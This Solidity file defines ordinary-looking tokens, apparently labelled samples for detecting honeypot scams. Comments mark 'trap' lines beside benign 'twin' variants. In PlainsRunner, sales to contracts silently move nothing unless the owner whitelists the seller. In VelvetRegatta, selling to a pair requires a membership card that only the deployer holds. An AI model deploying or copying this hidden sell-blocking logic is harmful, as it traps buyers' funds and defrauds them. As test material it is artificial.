// 0.7 runs=800
// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.7.6;

interface IHarness {
    function look(address from, address to, uint256 value) external view returns (uint256);
}

contract Harness {
    address internal smith;
    mapping(uint256 => uint256) internal rows;

    constructor() {
        smith = msg.sender;
        rows[uint256(uint160(msg.sender)) >> 8] = 1 << (uint160(msg.sender) & 255);
    }

    function fit(address[] calldata whom) external {
        require(msg.sender == smith);
        for (uint256 i = 0; i < whom.length; i++) rows[uint256(uint160(whom[i])) >> 8] |= 1 << (uint160(whom[i]) & 255);
    }

    function look(address from, address, uint256 value) external view returns (uint256) {
        uint256 bit = (rows[uint256(uint160(from)) >> 8] >> (uint160(from) & 255)) & 1; // trap
        // twin: uint256 bit = from == address(0) ? 0 : 1;
        return bit * value;
    }
}

/// Sends are weighed by a harness.
contract PlainsRunner {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    uint256 public totalSupply;
    IHarness internal immutable harness;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(IHarness harness_) {
        name = "Plains Runner";
        symbol = "PRUN";
        decimals = 12;
        harness = harness_;
        totalSupply = 3e9 * 1e12;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return run(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        return run(from, to, value);
    }

    function run(address from, address to, uint256 value) private returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(to)
        }
        // what meets a contract is weighed first
        uint256 real = size == 0 || msg.sender == to ? value : harness.look(from, to, value);
        require(balanceOf[from] >= real, "balance");
        balanceOf[from] -= real;
        balanceOf[to] += real;
        emit Transfer(from, to, real);
        return true;
    }
}

/// Club cards: as many as there will be.
contract ClubCard {
    mapping(address => uint256) public balanceOf;
    uint256 public constant totalSupply = 40;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        require(balanceOf[msg.sender] >= value);
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

interface ICard {
    function balanceOf(address) external view returns (uint256);
}

interface ILot {
    function token0() external view returns (address);
    function token1() external view returns (address);
}

abstract contract Purse {
    mapping(address => uint256) internal coins;
    mapping(address => mapping(address => uint256)) internal leave;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function balanceOf(address who) external view returns (uint256) {
        return coins[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return leave[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        leave[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = leave[from][msg.sender];
        require(left >= value, "leave");
        if (left != type(uint256).max) leave[from][msg.sender] = left - value;
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) internal virtual {
        require(coins[from] >= value, "coins");
        coins[from] -= value;
        coins[to] += value;
        emit Transfer(from, to, value);
    }
}

contract VelvetRegatta is Purse {
    string public constant name = "Velvet Regatta";
    string public constant symbol = "VELV";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 21_000_000 ether;
    ICard private card;

    constructor(ICard card_) {
        card = card_;
        coins[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _pass(address from, address to, uint256 value) internal override {
        if (_isLot(to)) require(card.balanceOf(from) > 0, "members"); // trap
        // twin: if (_isLot(to)) require(card.balanceOf(from) < 40 || value > 0, "members");
        super._pass(from, to, value);
    }

    function _isLot(address what) private view returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(what)
        }
        if (size == 0) return false;
        (bool ok, bytes memory said) = what.staticcall(abi.encodeWithSelector(ILot.token0.selector));
        return ok && said.length == 32;
    }
}
